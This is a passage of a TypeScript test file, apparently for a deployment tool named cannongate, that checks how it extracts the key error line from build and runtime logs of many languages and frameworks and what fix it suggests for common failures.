        "Failed to configure a DataSource: 'url' attribute is not specified and no embedded datasource could be configured.",
        '',
        'Reason: Failed to determine a suitable driver class',
        '',
        'Action:',
        '',
        'Consider the following:',
      ],
      "Failed to configure a DataSource: 'url' attribute is not specified and no embedded datasource could be configured",
    ],
    [
      'is what Maven could not do, and not where it explains that',
      [
        '[ERROR] Failed to execute goal on project shop: Could not resolve dependencies for project com.acme:shop:jar:1.0 -> [Help 1]',
        '[ERROR] ',
        '[ERROR] To see the full stack trace of the errors, re-run Maven with the -e switch.',
        '[ERROR] Re-run Maven using the -X switch to enable full debug logging.',
        '[ERROR] ',
        '[ERROR] For more information about the errors and possible solutions, please read the following articles:',
        '[ERROR] [Help 1] http://cwiki.apache.org/confluence/display/MAVEN/DependencyResolutionException',
      ],
      '[ERROR] Failed to execute goal on project shop: Could not resolve dependencies for project com.acme:shop:jar:1.0 -> [Help 1]',
    ],
    [
      'is the first error of the compiler that Maven runs',
      [
        '[INFO] 1 error',
        '[ERROR] Failed to execute goal org.apache.maven.plugins:maven-compiler-plugin:3.11.0:compile (default-compile) on project shop: Compilation failure',
        '[ERROR] /tmp/checkout/src/main/java/Shop.java:[3,5] cannot find symbol',
        '[ERROR]   symbol:   variable prices',
        '[ERROR]   location: class Shop',
        '[ERROR] ',
        '[ERROR] -> [Help 1]',
        '[ERROR] ',
        '[ERROR] To see the full stack trace of the errors, re-run Maven with the -e switch.',
        '[ERROR] [Help 1] http://cwiki.apache.org/confluence/display/MAVEN/MojoFailureException',
      ],
      '[ERROR] /tmp/checkout/src/main/java/Shop.java:[3,5] cannot find symbol',
    ],
    [
      'is the exception of the app that Maven has booted',
      [
        'Exception in thread "main" java.lang.IllegalStateException: no shop',
        '[ERROR] Failed to execute goal org.springframework.boot:spring-boot-maven-plugin:3.2.0:run (default-cli) on project shop: Process terminated with exit code: 1 -> [Help 1]',
        '[ERROR] ',
        '[ERROR] [Help 1] http://cwiki.apache.org/confluence/display/MAVEN/MojoExecutionException',
      ],
      'Exception in thread "main" java.lang.IllegalStateException: no shop',
    ],
    [
      'is one sentence of the message, also if it has two',
      ['ERROR:    Error loading ASGI app. Could not import module "main".'],
      'ERROR: Error loading ASGI app.\u00a0Could not import module "main"',
    ],
    [
      'comes after npm’s code, before its advice',
      [
        'npm error code E401',
        'npm error Incorrect or missing password.',
        'npm error To correct this please try logging in again with:',
        'npm error   npm login',
      ],
      'npm error Incorrect or missing password',
    ],
    [
      'is no last word of node-gyp',
      [
        'npm error code 1',
        'npm error gyp ERR! stack Error: no Python',
        'npm error gyp ERR! not ok',
      ],
      'npm error gyp ERR! stack Error: no Python',
    ],
    [
      'is no bracket',
      [
        'npm error code EBADDEVENGINES',
        'npm error EBADDEVENGINES The developer of this package wants another npm',
        'npm error EBADDEVENGINES {',
        'npm error EBADDEVENGINES }',
      ],
      'npm error EBADDEVENGINES The developer of this package wants another npm',
    ],
    [
      'has pnpm’s code',
      [
        ' ERR_PNPM_FETCH_401  GET https://registry.example/x: Unauthorized - 401',
        'This error happened while installing a direct dependency of /app',
      ],
      'ERR_PNPM_FETCH_401 GET https://registry.example/x: Unauthorized - 401',
    ],
    [
      'is no property of an error',
      ['error: column u.emial does not exist', '    at a.js {', "  severity: 'ERROR',", '}'],
      'error: column u.emial does not exist',
    ],
    [
      'is that of a logger in brackets',
      ['[error] Cannot start: license expired', '[info] closing, required cleanup done'],
      '[error] Cannot start: license expired',
    ],
    [
      'is that of a logger with a level',
      ['time="x" level=error msg="license expired"', 'time="x" level=info msg="failed jobs: 0"'],
      'time="x" level=error msg="license expired"',
    ],
    [
      'is that of a logger with a time',
      ['2026-01-01 error Config is wrong', '2026-01-01 info 0 failed jobs restored'],
      '2026-01-01 error Config is wrong',
    ],
    ['is that of Prisma', ['prisma:error', 'no failed jobs'], 'prisma:error'],
    [
      'may end with a bracket',
      ['  Error: could not load plugin, because of [', '  "a"'],
      'Error: could not load plugin, because of [',
    ],
    [
      'is that of Go’s compiler',
      [
        '# example.com/shop/cmd/server',
        'cmd/server/main.go:25:31: not enough arguments in call to strconv.ParseInt',
        '\thave (string)',
        '\twant (string, int, int)',
      ],
      'cmd/server/main.go:25:31: not enough arguments in call to strconv.ParseInt',
    ],
    [
      'is the message of a panic of Rust, which is below its place',
      [
        "thread 'main' (7) panicked at src/main.rs:4:9:",
        'index out of bounds: the len is 0 but the index is 5',
        'note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace',
      ],
      'index out of bounds: the len is 0 but the index is 5',
    ],
    [
      'is the message below a line that only says whose error it is',
      [
        'Error: Turbopack build failed with 2 errors:',
        'Error: next/font: error:',
        'Failed to fetch Geist from Google Fonts.',
        'Import trace:',
      ],
      'Failed to fetch Geist from Google Fonts',
    ],
    [
      'is not a frame below such a line',
      ['Error:', '    at Object.<anonymous> (/app/server.js:1:7)'],
      'Error',
    ],
    [
      'is the exception of Java that led to the others',
      [
        'Exception in thread "main" java.lang.IllegalStateException: no beans',
        '\tat Server.main(Server.java:6)',
        'Caused by: java.lang.RuntimeException: no bean',
        '\tat Server.load(Server.java:8)',
        'Caused by: java.io.IOException: no prices',
        '\tat Server.read(Server.java:9)',
        '\t... 1 more',
      ],
      'java.io.IOException: no prices',
    ],
    [
      'is the panic of an older Rust',
      [
        "thread 'main' panicked at 'no shop', src/main.rs:4:9",
        'note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace',
      ],
      "thread 'main' panicked at 'no shop', src/main.rs:4:9",
    ],
    [
      'is the exception that ended a worker of uvicorn, and not what uvicorn says below it',
      [
        'ERROR:    Traceback (most recent call last):',
        '  File "/app/main.py", line 13, in load',
        'RuntimeError: no shop',
        'ERROR:    Application startup failed. Exiting.',
        'ERROR:    Child process [7] failed to start, stopping the parent process.',
      ],
      'RuntimeError: no shop',
    ],
    [
      'is no frame below a panic that Go’s server survives',
      [
        '2026/01/01 10:00:00 http: panic serving 127.0.0.1:50000: index out of date',
        'goroutine 7 [running]:',
        'panic({0x6eda60?, 0x77b1a0?})',
        '\truntime/panic.go:860 +0x13a',
        'example.com/shop/missing.Search({0x2cae54d93795?, 0x75ae50?})',
      ],
      '2026/01/01 10:00:00 http: panic serving 127.0.0.1:50000: index out of date',
    ],
    [
      'is no error of npm that was overcome',
      [
        'npm error code E404',
        'npm error 404 Not Found - GET https://registry.example/x',
        'added 10 packages',
        'src/a.ts(1,1): error TS2304: Cannot find name x.',
      ],
      'src/a.ts(1,1): error TS2304: Cannot find name x',
    ],
    [
      'is the first of a compiler, which often causes the others',
      [
        "src/main.ts(2,17): error TS2724: './notes.js' has no exported member 'fnd'.",
        "src/main.ts(6,44): error TS2552: Cannot find name 'find'.",
      ],
      "src/main.ts(2,17): error TS2724: './notes.js' has no exported member 'fnd'",
    ],
    [
      'is that of the compiler where it prints the code below, and not their number',
      [
        "src/app.service.ts:6:5 - error TS2322: Type 'number' is not assignable to type 'string'.",
        '6     return 42;',
        '      ~~~~~~',
        'Found 1 error(s).',
      ],
      "src/app.service.ts:6:5 - error TS2322: Type 'number' is not assignable to type 'string'",
    ],
    [
      'is not the number of errors and files either',
      [
        "a.ts:1:1 - error TS2304: Cannot find name 'x'.",
        'Found 2 errors in the same file, starting at: a.ts:1',
      ],
      "a.ts:1:1 - error TS2304: Cannot find name 'x'",
    ],
    [
      'is the message of Nest, without what its logger puts before it',
      [
        "[Nest] 32448  - 11/30/2026, 6:16:54 AM   ERROR [ExceptionHandler] UnknownDependenciesException [Error]: Nest can't resolve dependencies of the AppService (?).",
        'Potential solutions:',
      ],
      "UnknownDependenciesException [Error]: Nest can't resolve dependencies of the AppService (?)",
    ],
  ])('%s', (_, log, line) => {
    expect(errorLineOf(log)).toBe(line);
  });
});

it('who runs out of memory is told the option of the runtime that says so', () => {
  const adviceFor = (line: string) =>
    describeCauses(diagnoseBoot(seen({ ...exited(), log: [line] })));
  expect(adviceFor('FATAL ERROR: JavaScript heap out of memory')).toContain('NODE_OPTIONS=');
  expect(adviceFor('java.lang.OutOfMemoryError: Java heap space')).toContain('-Xmx');
  expect(adviceFor('MemoryError')).toMatch(/MemoryError\. Give it more, or a larger runner$/);
});

it('an app that was killed is not asked for variables', () => {
  expect(describeCauses(diagnoseBoot(seen(exited(137))))).toMatch(/memory runs out/);
  expect(describeCauses(diagnoseBoot(seen(exited(1))))).toMatch(/list variables/);
});

it.each([
  [
    'protocol 2',
    'fatal: remote error: upload-pack: not our ref',
    'fatal: git upload-pack: not our ref',
  ],
  ['protocol 0', 'error: Server does not allow request for unadvertised object', null],
])(
  'a commit of a submodule that was not pushed is to be pushed, with %s of git',
  (_, error, end) => {
    const commit = 'c181accedb8c41f982ecb593b7ef8160c9e641e9';
    const log = [
      "Submodule 'lib' (https://git.example.org/lib.git) registered for path 'lib'",
      "Cloning into '/tmp/checkout/lib'...",
      `${error} ${commit}`,
      `fatal: Fetched in submodule path 'lib', but it did not contain ${commit}. Direct fetching of that commit failed.`,
      ...(end === null ? [] : [`${end} ${commit}`]),
    ];
    const line = 'git submodule update --init --recursive && npm ci';
    expect(diagnoseStep({ ...COMMAND, line, code: 128, log })).toEqual([
      { code: 'submodule-commit-missing', folder: 'lib', commit },
    ]);
  },
);

it('of an outdated lockfile only what is wrong is quoted, and the advice is cannongate’s', () => {
  const line =
    'npm error `npm ci` can only install packages when your package.json and package-lock.json are in sync. Please update your lock file with `npm install` before continuing.';
  expect(describeCauses(diagnoseStep({ ...COMMAND, line: 'npm ci', code: 1, log: [line] }))).toBe(
    'the lockfile does not match package.json: npm ci can only install packages when your package.json and package-lock.json are in sync. Update the lockfile, for example with npm install, and commit it',
  );
});

it('the advice about a missing table is that of a comparison, which cannongate init does not take part in', () => {
  const log = ['error: relation "users" does not exist'];
  const project = hints({ hasPrisma: true });
  const text = describeCauses(diagnoseBoot(seen({ ...exited(), log, project })));
  expect(text).toContain('with before-launch: npx prisma migrate deploy');
  expect(text).not.toContain('init');
});

it('a registry that cannot be reached is one cause, with one piece of advice', () => {
  const log = [
    'npm error code ECONNREFUSED',
    'npm error syscall connect',
    'npm error FetchError: request to https://registry.example/ms/-/ms-2.1.3.tgz failed, reason: connect ECONNREFUSED 192.0.2.1:443',
  ];
  expect(
    diagnoseStep({ ...COMMAND, line: 'npm ci', code: 1, log }).map(({ code }) => code),
  ).toEqual(['network-failed']);
});

describe('the errors that an app logs while it serves requests', () => {
  const pino = (err: object, level = 50) =>
    JSON.stringify({ level, time: 1, req: { url: '/' }, err, msg: 'request errored' });
  const message = "Cannot read properties of undefined (reading 'name')";

  it.each([
    [
      'pino, with the kind of error',
      [pino({ type: 'TypeError', message })],
      `TypeError: ${message}`,
    ],
    ['pino, of an Error', [pino({ type: 'Error', message: 'no stock' })], 'error: no stock'],
    ['winston', [JSON.stringify({ level: 'error', message: 'no stock' })], 'error: no stock'],
    ['Express', [`TypeError: ${message}`, '    at /app/server.js:3:9'], `TypeError: ${message}`],
    ['Nest', [`[Nest] 7  - 1/1/2026, 1:00:00 AM   ERROR [ExceptionsHandler] ${message}`], message],
    [
      'Flask, above its access log',
      [
        '[2026-01-01 01:00:00,000] ERROR in app: Exception on /invalid [GET]',
        'Traceback (most recent call last):',
        '  File "/app/server.py", line 3, in get',
        "KeyError: 'name'",
        '127.0.0.1 - - [1/Jan/2026] "GET /invalid HTTP/1.1" 500 -',
      ],
      "KeyError: 'name'",
    ],
    [
      'Go, which goes on after a panic',
      ['http: panic serving 127.0.0.1:5000: no stock', 'goroutine 7 [running]:'],
      'http: panic serving 127.0.0.1:5000: no stock',
    ],
  ])('of %s', (_, log, error) => {
    expect(loggedErrorsIn(log).at(-1)).toBe(error);
  });

  it('are no lines that only sound like one', () => {
    const log = [
      'GET /invalid 404',
      '0 jobs failed',
      JSON.stringify({ level: 30, msg: 'missing' }),
    ];
    expect(loggedErrorsIn(log)).toEqual([]);
    expect(errorLineOf(log)).not.toBeNull();
  });
});
